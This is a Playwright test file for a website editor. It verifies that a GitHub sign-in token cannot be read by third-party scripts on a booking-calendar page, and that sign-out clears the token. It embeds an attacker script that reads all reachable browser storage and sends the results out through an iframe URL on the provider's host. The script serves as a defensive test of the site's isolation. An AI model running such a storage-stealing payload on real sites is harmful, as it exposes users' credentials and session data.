/**
 * The owner's GitHub sign-in can't be read by another site's script (issue 49, docs/decisions.md 23): the editor
 * keeps it on the site's origin, so no script from elsewhere may ever run in one of the site's pages. The booking
 * calendar, the one page that shows another company's work, frames it from the provider's own address.
 *
 * As an attacker would try it: the owner is signed in to the online editor, then opens the calendar in the same
 * tab; every host but the site (the scheduling provider's, and any other a page might load a script from) answers
 * with code that reads every storage it can reach, the page's own included, and reports what it found by loading an
 * address on the provider's host (which the calendar's policy lets through). The token is never in a report.
 * That no page's policy lets another site's script run at all is the page sweep's (pages.spec.ts, expectStrictPolicy).
 */
import type { Route } from "@playwright/test";
import { ANY_WIDTH } from "../support/fixtures";
import { calendarPath, pricedTier, providerOrigin, rules, singleType, washes } from "./support/booking-flow";
import { expect, test } from "../support/site-editor";

/** Where the attacker's code sends what it read. */
const REPORT_PATH = "/found";

/** Reads every storage within reach (its own, and the page's above it when it is framed), then reports it. */
const ATTACKER = `(() => {
  const found = [];
  const read = (where, storage) => {
    try {
      const kept = storage();
      for (let i = 0; i < kept.length; i++) found.push(where + " " + kept.key(i) + "=" + kept.getItem(kept.key(i)));
      found.push(where + " read");
    } catch (error) {
      found.push(where + " refused");
    }
  };
  read("own localStorage", () => localStorage);
  read("own sessionStorage", () => sessionStorage);
  read("top localStorage", () => top.localStorage);
  read("top sessionStorage", () => top.sessionStorage);
  const report = document.createElement("iframe");
  report.src = ${JSON.stringify(providerOrigin + REPORT_PATH)} + "?" + new URLSearchParams({ found: found.join("\\n") });
  (document.body || document.documentElement).appendChild(report);
})();`;

/** Every host but the site's own answers with the attacker: as a script, or as a page running it. */
async function answerAsAttacker(route: Route): Promise<void> {
  const request = route.request();
  const url = new URL(request.url());
  if (url.pathname === REPORT_PATH) return route.fulfill({ contentType: "text/html", body: "<!doctype html><title>received</title>" });
  if (request.resourceType() === "script") return route.fulfill({ contentType: "text/javascript", body: ATTACKER });
  if (request.resourceType() === "document")
    return route.fulfill({ contentType: "text/html", body: `<!doctype html><title>calendar</title><main>calendar</main><script>${ATTACKER}</script>` });
  return route.fallback();
}

test.describe("the owner's sign-in and other sites' scripts", { tag: ANY_WIDTH }, () => {
  test.use({ backend: "github" });

  test("signed in to the editor, the calendar page's provider and any other host read every storage they can reach: never the token", async ({
    editor,
    editorPage: page,
  }) => {
    await editor.open("faq");
    const { token } = editor.double!;
    const kept = await page.evaluate(() => [...Object.values(localStorage), ...Object.values(sessionStorage)]);
    expect(kept, "the editor keeps the token on the site's origin (what the attacker is after)").toContain(token);

    const reports: string[] = [];
    page.on("request", (request) => {
      const url = new URL(request.url());
      if (url.origin === providerOrigin && url.pathname === REPORT_PATH) reports.push(url.searchParams.get("found") ?? "");
    });
    // Registered after the GitHub double's and the editor's routes, so it comes first; GitHub's API is left to the double.
    await page.route(/^https?:\/\/(?!127\.0\.0\.1[:/]|api\.github\.com\/)/, answerAsAttacker);
    await page.goto(calendarPath({ type: singleType(), tier: pricedTier(), wash: washes.at(-1), size: rules.sizes[0] }));

    await expect.poll(() => reports.length, "the attacker's code ran and reported").toBeGreaterThan(0);
    for (const report of reports) {
      expect(report).not.toContain(token);
      expect(report, "the page's own storage is out of its reach").toContain("top localStorage refused");
    }
  });

  test("Sign out forgets the sign-in in this browser and says plainly that GitHub keeps it until it ends or is revoked, and where", async ({
    editor,
    editorPage: page,
  }) => {
    await editor.open("faq");
    await page.getByRole("button", { name: "Sign out", exact: true }).click();
    const said = page.getByRole("status").filter({ hasText: "Signed out: this browser has forgotten your GitHub sign-in" });
    // The site's build names no scope (CMS_GITHUB_SCOPE unset): the GitHub App, whose sign-in ends after 8 hours and
    // whose access GitHub lists under the apps the owner authorised.
    await expect(said).toContainText(
      "GitHub itself still accepts that sign-in until it ends (8 hours after you signed in), or until you revoke the editor's access in",
    );
    await expect(said.getByRole("link")).toHaveAttribute("href", "https://github.com/settings/apps/authorizations");
    await expect(page.getByRole("button", { name: "Sign in with GitHub" })).toBeVisible();
    expect(await page.evaluate(() => [...Object.values(localStorage), ...Object.values(sessionStorage)])).not.toContain(editor.double!.token);
  });
});
